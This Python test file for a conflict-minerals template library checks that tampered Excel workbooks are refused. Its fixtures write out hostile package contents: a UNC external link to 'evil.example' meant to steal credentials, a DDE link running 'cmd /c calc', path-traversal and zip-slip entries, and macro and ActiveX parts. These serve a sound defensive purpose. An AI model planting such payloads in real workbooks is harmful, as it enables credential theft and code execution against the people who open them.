"""Templates carry nothing executable or linking outside into exports: a workbook with a VBA
project, macro-enabled content, an external link to a UNC path, a `..` zip entry or a foreign
part is refused by the library and by the export; every workbook RMI ships passes."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from forms import templates
from forms.declaration import new_declaration
from forms.workbook.library import TemplateLibrary
from forms.workbook.package import UnreadableWorkbook
from forms.workbook.package_audit import problems
from forms.workbook.writer import ExportError, export_official

BASE = "RMI_CMRT_6.5.xlsx"
_CT = "[Content_Types].xml"
_WB_RELS = "xl/_rels/workbook.xml.rels"
_OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _rmi_files(shared_dir: Path) -> list[Path]:
    folders = [shared_dir / "rmi-templates", shared_dir / "fixtures" / "variants"]
    return sorted(p for folder in folders for p in folder.glob("*.xlsx"))


def test_every_workbook_rmi_ships_passes(shared_dir: Path) -> None:
    files = _rmi_files(shared_dir)
    assert len(files) >= 18
    for path in files:
        with zipfile.ZipFile(path) as zf:
            assert problems(zf) == [], path.name


def _tampered(
    source: Path,
    out: Path,
    *,
    parts: dict[str, bytes] | None = None,
    types: str = "",
    rels: str = "",
    replace: tuple[str, str] | None = None,
) -> Path:
    """`source` with extra `parts`, content-type entries `types`, workbook relationships
    `rels`, and one text replacement in [Content_Types].xml."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == _CT:
                text = data.decode("utf-8")
                if replace:
                    assert replace[0] in text
                    text = text.replace(*replace)
                data = text.replace("</Types>", types + "</Types>").encode("utf-8")
            elif info.filename == _WB_RELS:
                data = data.replace(b"</Relationships>", rels.encode() + b"</Relationships>")
            dst.writestr(info, data)
        for name, body in (parts or {}).items():
            dst.writestr(name, body)
    return out


def _unc_link_rels(target: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxml'
        f'formats.org/package/2006/relationships"><Relationship Id="rId1" Type="{_OD}'
        f'externalLinkPath" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


HOSTILE = {
    "vba project": dict(
        parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
        types='<Override PartName="/xl/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>',
        rels='<Relationship Id="rId999" Type="http://schemas.microsoft.com/office/2006/'
        'relationships/vbaProject" Target="vbaProject.bin"/>',
    ),
    "macro-enabled content type": dict(
        replace=(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
    ),
    "external link to a UNC path": dict(
        parts={
            "xl/externalLinks/externalLink9.xml": b"<externalLink/>",
            "xl/externalLinks/_rels/externalLink9.xml.rels": _unc_link_rels(
                "\\\\evil.example\\share\\steal.xlsx"
            ),
        },
        types='<Override PartName="/xl/externalLinks/externalLink9.xml" ContentType="application'
        '/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
        rels=f'<Relationship Id="rId998" Type="{_OD}externalLink" '
        'Target="externalLinks/externalLink9.xml"/>',
    ),
    "external link to a file URL": dict(
        parts={"xl/externalLinks/_rels/externalLink9.xml.rels": _unc_link_rels("file:///etc/x")}
    ),
    "DDE link": dict(
        parts={
            "xl/externalLinks/externalLink9.xml": b'<externalLink xmlns="http://schemas.'
            b'openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
            b'ddeTopic="/c calc"/></externalLink>'
        },
        types='<Override PartName="/xl/externalLinks/externalLink9.xml" ContentType="application'
        '/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
    ),
    "relationship leaving the package": dict(
        rels=f'<Relationship Id="rId996" Type="{_OD}image" Target="../../../etc/passwd"/>'
    ),
    "zip entry outside the package": dict(parts={"../../evil.txt": b"evil"}),
    "absolute zip entry": dict(parts={"/tmp/evil.xml": b"<x/>"}),
    "foreign part": dict(
        parts={"xl/evil.txt": b"evil"},
        types='<Default Extension="txt" ContentType="text/plain"/>',
    ),
    "hyperlink to a program": dict(
        rels=f'<Relationship Id="rId997" Type="{_OD}hyperlink" Target="file:///C:/calc.exe" '
        'TargetMode="External"/>'
    ),
    "activeX": dict(
        parts={"xl/activeX/activeX1.xml": b"<ax/>"},
        types='<Override PartName="/xl/activeX/activeX1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/>',
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_template_is_refused_by_library_and_export(
    templates_dir: Path, tmp_path: Path, case: str
) -> None:
    bad = _tampered(templates_dir / BASE, tmp_path / BASE, **HOSTILE[case])  # type: ignore[arg-type]
    lib = TemplateLibrary(tmp_path / "data")
    with pytest.raises(UnreadableWorkbook) as err:
        lib.add(bad)
    assert err.value.kind == "unsafe-template", str(err.value)
    assert lib.entries() == []
    decl = new_declaration(templates.get("CMRT", "6.5"))
    decl.company.name = "Acme"
    out = tmp_path / "export.xlsx"
    with pytest.raises(ExportError, match="usable official template"):
        export_official(decl, bad, out)
    assert not out.exists()


def test_messages_name_what_was_found(templates_dir: Path, tmp_path: Path) -> None:
    said = {}
    for case in ("vba project", "external link to a UNC path", "zip entry outside the package"):
        bad = _tampered(templates_dir / BASE, tmp_path / f"{case}.xlsx", **HOSTILE[case])  # type: ignore[arg-type]
        with zipfile.ZipFile(bad) as zf:
            said[case] = " ".join(problems(zf))
    assert "VBA project" in said["vba project"]
    assert "evil.example" in said["external link to a UNC path"]
    assert "../../evil.txt" in said["zip entry outside the package"]
